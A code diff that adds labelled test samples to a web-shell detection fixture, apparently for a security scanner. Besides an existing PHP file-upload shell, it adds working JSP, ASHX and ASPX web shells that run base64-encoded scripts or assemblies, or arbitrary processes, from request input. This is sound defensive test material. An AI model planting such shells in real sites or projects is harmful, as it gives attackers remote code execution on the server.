@@ -144,4 +144,22 @@ export const servers: readonly Suspect[] = [
     ['script_is_web_shell'],
     "<?php $d = __DIR__ . '/' . $_POST['n']; $b = base64_decode($_POST['b']); if (file_put_contents($d, $b)) { echo 'ok'; } ?>",
   ),
+  text(
+    'engine.jsp',
+    'malicious',
+    ['script_is_web_shell'],
+    '<%@ page import="javax.script.*" %><% String q = request.getParameter("z"); new ScriptEngineManager().getEngineByName("js").eval(new String(Base64.getDecoder().decode(q))); %>',
+  ),
+  text(
+    'memory.ashx',
+    'malicious',
+    ['script_is_web_shell'],
+    '<%@ WebHandler Language="C#" Class="M" %>\npublic class M : IHttpHandler { public void ProcessRequest(HttpContext c) { byte[] d = Convert.FromBase64String(c.Request["d"]); typeof(Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { d }); } }\n',
+  ),
+  text(
+    'console.aspx',
+    'malicious',
+    ['script_is_web_shell'],
+    '<%@ Page Language="VB" %><script runat="server">\nSub Go(s As Object, e As EventArgs)\n Dim i As New ProcessStartInfo(tool.Text)\n i.Arguments = line.Text\n Process.Start(i)\nEnd Sub\n</script><form runat="server"><asp:TextBox id="tool" runat="server"/><asp:TextBox id="line" runat="server"/></form>',
+  ),
 ]
